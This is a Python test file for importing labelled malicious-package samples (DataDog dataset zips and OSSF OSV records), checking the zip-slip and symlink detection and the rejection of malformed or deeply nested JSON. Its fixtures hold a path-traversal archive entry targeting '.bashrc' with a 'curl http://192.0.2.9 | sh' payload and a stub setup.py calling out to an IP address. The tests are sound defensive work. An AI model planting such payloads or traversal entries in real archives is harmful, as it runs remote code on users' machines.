"""Importing DataDog's dataset layout and ossf OSV records (fixtures built here)."""

import json
import zipfile

import pytest

from app.sync.importers import import_datadog, import_into_store, import_osv
from app.sync.layout import DatasetError
from app.sync.samples import build_sample_zip


def _datadog(root):
    base = root / "samples" / "pypi"
    for cat, name, ver in [
        ("malicious_intent", "0wneg", "1.0.0"),
        ("malicious_intent", "Evil_Pkg", "0.1"),
        ("compromised_lib", "num2words", "0.5.15"),
    ]:
        d = base / cat / name / ver
        d.mkdir(parents=True)
        (d / f"2024-01-02-{name}-v{ver}.zip").write_bytes(
            build_sample_zip(
                f"setup.py of {name}: urlopen('http://192.0.2.7/')".encode(), "setup.py"
            )
        )
    slip = base / "malicious_intent" / "slippy" / "1.0"
    slip.mkdir(parents=True)
    with zipfile.ZipFile(slip / "2024-01-02-slippy-v1.0.zip", "w") as zf:
        zf.writestr("../../../../home/user/.bashrc", b"curl http://192.0.2.9 | sh")
    (base / "malicious_intent" / "noversion.zip").write_bytes(b"stray")
    outside = root.parent / "outside-secret.zip"
    outside.write_bytes(b"not yours")
    link = base / "malicious_intent" / "linked" / "1.0"
    link.mkdir(parents=True)
    (link / "2024-01-02-linked-v1.0.zip").symlink_to(outside)
    (base / "manifest.json").write_text(
        json.dumps(
            {"0wneg": None, "evil-pkg": None, "num2words": ["0.5.15", "0.5.16"], "slippy": None},
            indent=4,
            sort_keys=True,
        )
    )
    npm = root / "samples" / "npm" / "malicious_intent" / "@evil" / "scoped" / "1.0.0"
    npm.mkdir(parents=True)
    (npm / "2024-01-02-scoped-v1.0.0.zip").write_bytes(build_sample_zip(b"{}", "package.json"))
    return root


def test_datadog_layout_becomes_labels_and_hostile_zips_are_reported(tmp_path):
    result = import_datadog(_datadog(tmp_path / "dd"))
    got = sorted(
        (lb["ecosystem"], lb["name"], lb["version"], lb["source"]["category"])
        for lb in result.labels
    )
    assert got == [
        ("npm", "@evil/scoped", "1.0.0", "malicious_intent"),
        ("pypi", "0wneg", "1.0.0", "malicious_intent"),
        ("pypi", "evil-pkg", "0.1", "malicious_intent"),
        ("pypi", "num2words", "0.5.15", "compromised_lib"),
    ]
    assert {lb["reviewer"] for lb in result.labels} == {"import:datadog"}
    assert all(
        lb["verdict"] == "malicious" and len(lb["artifact"]["sha256"]) == 64 for lb in result.labels
    )
    assert all(lb["source"]["in_manifest"] for lb in result.labels if lb["ecosystem"] == "pypi")
    problems = {p.path: str(p) for p in result.problems}
    assert (
        "zip-slip"
        in problems["samples/pypi/malicious_intent/slippy/1.0/2024-01-02-slippy-v1.0.zip"]
    )
    assert (
        "symlink" in problems["samples/pypi/malicious_intent/linked/1.0/2024-01-02-linked-v1.0.zip"]
    )
    assert len(problems) == 2
    assert result.skipped == 1  # the stray zip outside <name>/<version>/
    # Also works when pointed at samples/pypi directly.
    assert len(import_datadog(tmp_path / "dd" / "samples" / "pypi").labels) == 3
    with pytest.raises(DatasetError, match="not a DataDog dataset"):
        import_datadog(tmp_path)


OSV_ONE = {
    "modified": "2024-10-27T13:55:45Z",
    "published": "2024-10-27T13:55:45Z",
    "schema_version": "1.5.0",
    "id": "MAL-2024-0001",
    "summary": "Malicious code in 123bla (PyPI)",
    "details": "...",
    "affected": [{"package": {"ecosystem": "PyPI", "name": "123Bla"}, "versions": ["0.0.1"]}],
    "database_specific": {
        "malicious-packages-origins": [
            {
                "source": "ossf-package-analysis",
                "versions": ["0.0.1"],
                "modified_time": "2024-10-27T13:55:45Z",
            },
            {"source": "kam193", "versions": ["0.0.1"], "modified_time": "2024-11-01T00:00:00Z"},
        ],
        "iocs": {"domains": ["example.invalid"]},
    },
}
OSV_ALL = {
    "modified": "2025-01-01T00:00:00Z",
    "schema_version": "1.5.0",
    "details": "",
    "affected": [
        {
            "package": {"ecosystem": "npm", "name": "@bad/thing"},
            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}],
        }
    ],
}


def test_osv_records_become_one_label_per_origin(tmp_path):
    d = tmp_path / "osv" / "malicious"
    (d / "pypi" / "123bla").mkdir(parents=True)
    (d / "npm" / "@bad" / "thing").mkdir(parents=True)
    (d / "pypi" / "123bla" / "MAL-2024-0001.json").write_text(json.dumps(OSV_ONE))
    (d / "npm" / "@bad" / "thing" / "MAL-0000-x.json").write_text(json.dumps(OSV_ALL))
    (d / "pypi" / "broken.json").write_text("{")
    (d / "pypi" / "go.json").write_text(
        json.dumps({**OSV_ALL, "affected": [{"package": {"ecosystem": "Go", "name": "x"}}]})
    )
    result = import_osv(tmp_path)
    got = sorted(
        (lb["reviewer"], lb["ecosystem"], lb["name"], lb["version"], lb["decided_at"])
        for lb in result.labels
    )
    assert got == [
        ("import:kam193", "pypi", "123bla", "0.0.1", "2024-11-01T00:00:00Z"),
        ("import:ossf-package-analysis", "pypi", "123bla", "0.0.1", "2024-10-27T13:55:45Z"),
        ("import:osv", "npm", "@bad/thing", "*", "2025-01-01T00:00:00Z"),
    ]
    one = next(lb for lb in result.labels if lb["reviewer"] == "import:kam193")
    assert one["reason"] == "Malicious code in 123bla (PyPI)"
    assert one["source"]["iocs"] == {"domains": ["example.invalid"]}
    assert [p.path for p in result.problems] == ["osv/malicious/pypi/broken.json"]
    assert result.skipped == 1


def test_imported_labels_land_in_the_store_and_reimport_does_not_duplicate(tmp_path, desks):
    me = desks("me")
    item = me.decide("0wneg", "1.0.0", "indeterminate")
    labels = import_datadog(_datadog(tmp_path / "dd")).labels
    with me.store.batch():
        import_into_store(me.store, labels)
        import_into_store(me.store, labels)
    ext = me.store.external_labels_for(item.id)
    assert [(e.reviewer, e.label["verdict"]) for e in ext] == [("import:datadog", "malicious")]
    assert me.store.external_label_count() == 4


DEEP = b"[" * 100_000 + b"]" * 100_000


def test_deep_and_type_confused_osv_records_are_refused_one_by_one(tmp_path):
    d = tmp_path / "osv" / "malicious" / "pypi"
    (d / "123bla").mkdir(parents=True)
    (d / "a-deep.json").write_bytes(DEEP)
    confused = {
        "b-details.json": {**OSV_ALL, "summary": "", "details": 5},
        "c-summary.json": {**OSV_ALL, "summary": ["x"]},
        "d-specific.json": {**OSV_ALL, "database_specific": 5},
        "e-origins.json": {**OSV_ALL, "database_specific": {"malicious-packages-origins": 5}},
        "f-versions.json": {
            **OSV_ALL,
            "database_specific": {"malicious-packages-origins": [{"source": "x", "versions": 5}]},
        },
        "g-references.json": {**OSV_ALL, "references": {"url": "https://example.invalid/"}},
    }
    for name, rec in confused.items():
        (d / name).write_text(json.dumps(rec))
    (d / "123bla" / "MAL-2024-0001.json").write_text(json.dumps(OSV_ONE))
    result = import_osv(tmp_path)  # no RecursionError, AttributeError or TypeError
    problems = {p.path.rsplit("/", 1)[-1]: str(p) for p in result.problems}
    assert "nested deeper than 64 levels" in problems.pop("a-deep.json")
    assert "details must be a string" in problems.pop("b-details.json")
    assert "summary must be a string" in problems.pop("c-summary.json")
    assert "database_specific must be an object" in problems.pop("d-specific.json")
    assert "malicious-packages-origins must be a list" in problems.pop("e-origins.json")
    assert "malicious-packages-origins must be a list" in problems.pop("f-versions.json")
    assert "references must be a list" in problems.pop("g-references.json")
    assert problems == {}
    # The good record after them still became its labels.
    assert {lb["name"] for lb in result.labels} == {"123bla"}


def test_a_deep_datadog_manifest_is_reported_and_the_samples_still_read(tmp_path):
    root = _datadog(tmp_path / "dd")
    (root / "samples" / "pypi" / "manifest.json").write_bytes(DEEP)
    result = import_datadog(root)
    assert [p.path for p in result.problems][:1] == ["samples/pypi/manifest.json"]
    assert "nested deeper" in str(result.problems[0])
    assert result.labels  # the zips were still listed as labels
